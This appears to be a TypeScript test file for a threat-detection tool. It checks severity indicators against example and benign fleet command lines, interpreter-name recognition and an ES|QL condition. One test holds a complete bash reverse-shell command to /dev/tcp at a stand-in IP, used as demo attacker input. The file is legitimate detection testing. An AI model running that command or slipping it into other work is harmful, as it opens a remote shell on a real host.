import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { SEVERITY_INDICATORS, indicatorsIn } from '../functions/core/severity/indicators';
import { esqlIsInterpreter, isInterpreterName } from '../functions/core/hunts/interpreters';
import { esql } from './support/esql';

const asInput = (kind: 'command-line' | 'executable', value: string) => (kind === 'command-line' ? { commandLines: [value], executables: [] } : { commandLines: [], executables: [value] });

describe('severity indicators', () => {
  for (const indicator of SEVERITY_INDICATORS) {
    it(`${indicator.id}: matches its examples and none of its counter-examples`, () => {
      const kind = indicator.appliesTo[0]!;
      for (const example of indicator.examples) {
        assert.ok(indicatorsIn(asInput(kind, example)).some((m) => m.id === indicator.id), `should match: ${example}`);
      }
      for (const benign of indicator.counterExamples) {
        assert.ok(!indicatorsIn(asInput(kind, benign)).some((m) => m.id === indicator.id), `should not match: ${benign}`);
      }
    });
  }

  it('finds nothing in the benign dispatcher activity of a fleet', () => {
    const benign = [
      '/bin/bash /etc/NetworkManager/dispatcher.d/99-vpn-routes tun0 up',
      'ip route replace 10.20.0.0/16 dev tun0 metric 50',
      'logger -t 99-vpn-routes routes for tun0 installed',
      'chronyc -a burst 4/4',
      'run-parts --arg=eth0 --arg=up /etc/dhcp/dhclient-exit-hooks.d',
      'systemctl try-reload-or-restart systemd-resolved',
      'nc -z 10.0.0.1 443',
      '/usr/bin/python3 /usr/lib/NetworkManager/dispatcher.d/30-proxy.py wlp2s0 connectivity-change',
      'sed -i s/^nameserver.*/nameserver 10.0.0.53/ /etc/resolv.conf',
      'ssh -i /root/.ssh/id_ed25519 backup@10.0.0.5 true',
    ];
    for (const line of benign) assert.deepEqual(indicatorsIn({ commandLines: [line], executables: ['/usr/bin/bash'] }), [], line);
  });

  it('names every indicator of the demo attacker once, in data order', () => {
    const found = indicatorsIn({ commandLines: ["nohup setsid bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'"], executables: ['/usr/bin/nohup'] });
    assert.deepEqual(found.map((m) => m.id), ['reverse-shell-dev-tcp', 'interactive-shell']);
  });

  it('reads executables only for executable indicators', () => {
    assert.deepEqual(indicatorsIn({ commandLines: [], executables: ['/dev/shm/.x'] }).map((m) => m.id), ['runs-from-temp']);
    assert.deepEqual(indicatorsIn({ commandLines: [], executables: ['/dev/tcp/1.2.3.4/5'] }), []);
  });

  it('stays linear on megabytes of hostile text', () => {
    const hostile = [`${'nc '.repeat(200_000)}`, `curl ${'a'.repeat(1_000_000)}`, `${'b64decode('.repeat(50_000)}`, `${'bash -'.repeat(100_000)}`];
    for (const value of hostile) indicatorsIn({ commandLines: [value], executables: [value] });
  });
});

describe('interpreters', () => {
  it('recognises shells, env and versioned interpreters, and nothing that merely opens a file', () => {
    for (const name of ['sh', 'bash', 'dash', 'zsh', 'env', 'busybox', 'perl', 'ruby', 'python3', 'python3.11', 'python2.7', 'python']) assert.ok(isInterpreterName(name), name);
    for (const name of ['vim', 'vi', 'nano', 'cat', 'nm-dispatcher', 'pythonista', 'bash5', 'shell', null]) assert.ok(!isInterpreterName(name), String(name));
  });

  it('the ES|QL condition agrees with the data, and is null only when the name is missing', () => {
    const evaluate = (name: string | null) => esql(`ROW name = ?name | EVAL interpreter = ${esqlIsInterpreter('name')}`, { params: [{ name }] }).values[0]![1];
    for (const name of ['sh', 'python3.11', 'env', 'vim', 'python3x', 'perl5.36', 'bash5']) assert.equal(evaluate(name), isInterpreterName(name), name);
    assert.equal(evaluate(null), null);
  });
});
